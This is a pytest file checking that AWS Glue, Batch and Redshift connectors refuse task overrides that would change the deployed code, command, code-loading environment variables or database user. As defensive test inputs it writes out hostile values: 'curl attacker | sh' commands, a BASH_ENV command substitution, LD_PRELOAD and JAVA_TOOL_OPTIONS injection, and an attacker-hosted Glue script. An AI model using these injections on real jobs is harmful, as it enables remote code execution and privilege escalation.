"""Issue 18: what an AWS task may change is bounded by the deployment, through the served app
against the fake AWS.

Anyone who can write a Flyte task can put any template in front of the connectors. Where the
deployment registered code together with the role it runs under (a Glue job, a Batch job
definition), a task may not swap the code; where the service gets credentials for a database
user, the task may not pick the user. Each refusal is ``invalid_argument`` naming the field and
the parameter that would allow it, and reaches no AWS API; the parameter widens it.
"""

from __future__ import annotations

import pytest

from connectors.builtin.aws.batch import AwsBatchJobConnector, AwsBatchJobMeta
from connectors.builtin.aws.glue import DEPLOYMENT_ARGUMENTS, GlueJobConnector, GlueJobMeta
from connectors.builtin.aws.redshift import RedshiftQueryConnector, RedshiftQueryMeta
from connectors.dev.aws_resources.aws_batch_job import JOB_DEFINITION, QUEUE
from connectors.dev.aws_resources.glue_job import JOB_NAME
from connectors.dev.aws_resources.redshift_query import CLUSTER, DATABASE, DB_USER
from connectors.errors import Code
from tests.aws_world import STR

GLUE = {"job_name": JOB_NAME}
BATCH = {"job_queue": QUEUE, "job_definition": JOB_DEFINITION}
REDSHIFT = {"query": "select 1", "database": DATABASE, "cluster_identifier": CLUSTER}


def glue_runs(world) -> int:
    return len(world.boto("glue").get_job_runs(JobName=JOB_NAME, MaxResults=200)["JobRuns"])


def batch_jobs(world, run: str) -> list[dict]:
    found = world.boto("batch").list_jobs(jobQueue=QUEUE, filters=[{"name": "JOB_NAME", "values": [f"{run}*"]}])
    return found["jobSummaryList"]


def statements(world) -> int:
    return len(world.boto("redshift-data").list_statements(Status="ALL")["Statements"])


def refused(error, field: str, parameter: str) -> bool:
    return error.code == Code.INVALID_ARGUMENT and field in error.message and parameter in error.message


# -- glue_job: the job's code is the job's ----------------------------------------------------------


@pytest.mark.parametrize("argument", sorted(name for name, _ in DEPLOYMENT_ARGUMENTS.values()))
def test_a_glue_run_argument_that_chooses_the_jobs_code_is_refused_naming_it(aws_world, monkeypatch, argument):
    monkeypatch.delenv("GLUE_ALLOWED_CODE_ARGUMENTS", raising=False)
    world = aws_world(GlueJobConnector())
    before = glue_runs(world)
    custom = {**GLUE, "arguments": {"--day": "monday", argument: "s3://attacker/evil.py"}}
    error = world.error(world.create, world.request("glue_job", custom))
    assert refused(error, f"template.custom.arguments.{argument}", "GlueAllowedCodeArguments"), error.message
    assert "GLUE_ALLOWED_CODE_ARGUMENTS" in error.message
    assert glue_runs(world) == before, "a run started"


@pytest.mark.parametrize("name", ["scriptLocation", "extra_py_files", "TempDir"])
def test_an_input_that_would_become_such_an_argument_is_refused_naming_the_input(aws_world, monkeypatch, name):
    monkeypatch.delenv("GLUE_ALLOWED_CODE_ARGUMENTS", raising=False)
    world = aws_world(GlueJobConnector())
    before = glue_runs(world)
    if name == "extra_py_files":  # Glue's name has dashes; an input's cannot: not Glue's argument
        handle = world.create(world.request("glue_job", GLUE, inputs={name: (STR, "s3://x/y.py")}))
        meta = GlueJobMeta.decode(world.record(handle).resource_meta)
        run = world.boto("glue").get_job_run(JobName=JOB_NAME, RunId=meta.job_run_id)["JobRun"]
        assert run["Arguments"]["--extra_py_files"] == "s3://x/y.py"
        return
    error = world.error(world.create, world.request("glue_job", GLUE, inputs={name: (STR, "s3://attacker/evil.py")}))
    assert refused(error, f"the input {name!r} (the run argument --{name})", "GlueAllowedCodeArguments"), error.message
    assert glue_runs(world) == before


def test_glue_arguments_are_matched_whatever_their_case(aws_world, monkeypatch):
    monkeypatch.delenv("GLUE_ALLOWED_CODE_ARGUMENTS", raising=False)
    world = aws_world(GlueJobConnector())
    error = world.error(world.create, world.request("glue_job", {**GLUE, "arguments": {"--SCRIPTLOCATION": "s3://x"}}))
    assert refused(error, "--SCRIPTLOCATION", "GlueAllowedCodeArguments") and "'--scriptLocation'" in error.message


def test_a_deployment_that_lists_an_argument_lets_tasks_set_it(aws_world, monkeypatch):
    monkeypatch.setenv("GLUE_ALLOWED_CODE_ARGUMENTS", "extra-py-files, --TempDir")  # with or without the dashes
    world = aws_world(GlueJobConnector())
    custom = {**GLUE, "arguments": {"--extra-py-files": "s3://libs/a.zip", "--TempDir": "s3://tmp/glue/"}}
    handle = world.create(world.request("glue_job", custom))
    meta = GlueJobMeta.decode(world.record(handle).resource_meta)
    run = world.boto("glue").get_job_run(JobName=JOB_NAME, RunId=meta.job_run_id)["JobRun"]
    assert (
        run["Arguments"]["--extra-py-files"] == "s3://libs/a.zip" and run["Arguments"]["--TempDir"] == "s3://tmp/glue/"
    )
    # Another code argument stays refused.
    error = world.error(world.create, world.request("glue_job", {**GLUE, "arguments": {"--scriptLocation": "s3://x"}}))
    assert refused(error, "--scriptLocation", "GlueAllowedCodeArguments")


# -- aws_batch_job: the job definition's command and code-loading variables -------------------------


def test_a_batch_command_override_is_refused_naming_the_parameter(aws_world, monkeypatch):
    monkeypatch.delenv("BATCH_ALLOWED_OVERRIDES", raising=False)
    world = aws_world(AwsBatchJobConnector())
    custom = {**BATCH, "container_overrides": {"command": ["sh", "-c", "curl attacker | sh"]}}
    error = world.error(world.create, world.request("aws_batch_job", custom, run="r18cmd"))
    assert refused(error, "template.custom.container_overrides.command", "BatchAllowedOverrides"), error.message
    assert "BATCH_ALLOWED_OVERRIDES" in error.message and "'command'" in error.message
    assert batch_jobs(world, "r18cmd") == []


@pytest.mark.parametrize(
    "custom, field",
    [
        ({"environment": {"BASH_ENV": "$(curl attacker|sh)"}}, "template.custom.environment.BASH_ENV"),
        (
            {"container_overrides": {"environment": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}},
            "template.custom.container_overrides.environment.LD_PRELOAD",
        ),
        ({"environment": {"JAVA_TOOL_OPTIONS": "-XX:OnOutOfMemoryError=sh"}}, "environment.JAVA_TOOL_OPTIONS"),
        ({"environment": {"BASH_FUNC_ls%%": "() { curl attacker; }"}}, "environment.BASH_FUNC_ls%%"),
        ({"environment": {"pythonpath": "/tmp"}}, "environment.pythonpath"),
    ],
    ids=["bash-env", "ld-preload", "java-tool-options", "bash-function", "any-case"],
)
def test_an_environment_variable_that_loads_code_is_refused(aws_world, monkeypatch, custom, field):
    monkeypatch.delenv("BATCH_ALLOWED_OVERRIDES", raising=False)
    world = aws_world(AwsBatchJobConnector())
    error = world.error(world.create, world.request("aws_batch_job", {**BATCH, **custom}, run="r18env"))
    assert refused(error, field, "BatchAllowedOverrides") and "'environment'" in error.message, error.message
    assert batch_jobs(world, "r18env") == []


def test_resources_and_plain_variables_stay_the_tasks(aws_world, monkeypatch):
    monkeypatch.delenv("BATCH_ALLOWED_OVERRIDES", raising=False)
    world = aws_world(AwsBatchJobConnector())
    custom = {
        **BATCH,
        "environment": {"STAGE": "test"},
        "container_overrides": {"resourceRequirements": [{"type": "MEMORY", "value": "4096"}]},
    }
    handle = world.create(world.request("aws_batch_job", custom, run="r18ok"))
    job = world.boto("batch").describe_jobs(jobs=[AwsBatchJobMeta.decode(world.record(handle).resource_meta).job_id])
    assert {"name": "STAGE", "value": "test"} in job["jobs"][0]["container"]["environment"]


def test_a_deployment_that_allows_them_lets_tasks_override_the_command_and_any_variable(aws_world, monkeypatch):
    monkeypatch.setenv("BATCH_ALLOWED_OVERRIDES", "command,environment")
    world = aws_world(AwsBatchJobConnector())
    custom = {**BATCH, "environment": {"PYTHONPATH": "/opt/lib"}, "container_overrides": {"command": ["echo", "hi"]}}
    handle = world.create(world.request("aws_batch_job", custom, run="r18allowed"))
    job_id = AwsBatchJobMeta.decode(world.record(handle).resource_meta).job_id
    container = world.boto("batch").describe_jobs(jobs=[job_id])["jobs"][0]["container"]
    assert container["command"] == ["echo", "hi"]
    assert {"name": "PYTHONPATH", "value": "/opt/lib"} in container["environment"]


def test_batch_has_no_image_or_role_override_for_a_task_to_set(aws_world, monkeypatch):
    """Batch's ContainerOverrides holds vcpus, memory, command, instanceType, environment and
    resourceRequirements: no image, no job role. One given is refused by the model before any call."""
    monkeypatch.setenv("BATCH_ALLOWED_OVERRIDES", "command,environment")
    world = aws_world(AwsBatchJobConnector())
    for key, value in (("image", "attacker/image:latest"), ("jobRoleArn", "arn:aws:iam::123456789012:role/admin")):
        custom = {**BATCH, "container_overrides": {key: value}}
        error = world.error(world.create, world.request("aws_batch_job", custom, run=f"r18{key.lower()}"))
        assert error.code == Code.INVALID_ARGUMENT and key in error.message, error.message
        assert batch_jobs(world, f"r18{key.lower()}") == []


# -- redshift_query: the database user is the deployment's ---------------------------------------


def test_a_redshift_db_user_the_deployment_does_not_list_is_refused(aws_world, monkeypatch):
    monkeypatch.delenv("REDSHIFT_ALLOWED_DB_USERS", raising=False)
    world = aws_world(RedshiftQueryConnector())
    before = statements(world)
    error = world.error(world.create, world.request("redshift_query", {**REDSHIFT, "db_user": "awsuser"}))
    assert refused(error, "template.custom.db_user", "RedshiftDbUsers"), error.message
    assert "REDSHIFT_ALLOWED_DB_USERS" in error.message and "'awsuser'" in error.message
    monkeypatch.setenv("REDSHIFT_ALLOWED_DB_USERS", DB_USER)
    error = world.error(world.create, world.request("redshift_query", {**REDSHIFT, "db_user": "awsuser"}))
    assert refused(error, "template.custom.db_user", "RedshiftDbUsers")
    assert statements(world) == before


def test_a_listed_db_user_and_no_db_user_at_all_run(aws_world, monkeypatch):
    monkeypatch.setenv("REDSHIFT_ALLOWED_DB_USERS", f"admin,{DB_USER}")
    world = aws_world(RedshiftQueryConnector())
    listed = world.create(world.request("redshift_query", {**REDSHIFT, "db_user": DB_USER}, run="r18listed"))
    meta = RedshiftQueryMeta.decode(world.record(listed).resource_meta)
    assert world.boto("redshift-data").describe_statement(Id=meta.statement_id)["DbUser"] == DB_USER
    monkeypatch.delenv("REDSHIFT_ALLOWED_DB_USERS")
    as_itself = world.create(world.request("redshift_query", REDSHIFT, run="r18iam"))  # the service's IAM identity
    meta = RedshiftQueryMeta.decode(world.record(as_itself).resource_meta)
    assert "DbUser" not in world.boto("redshift-data").describe_statement(Id=meta.statement_id)
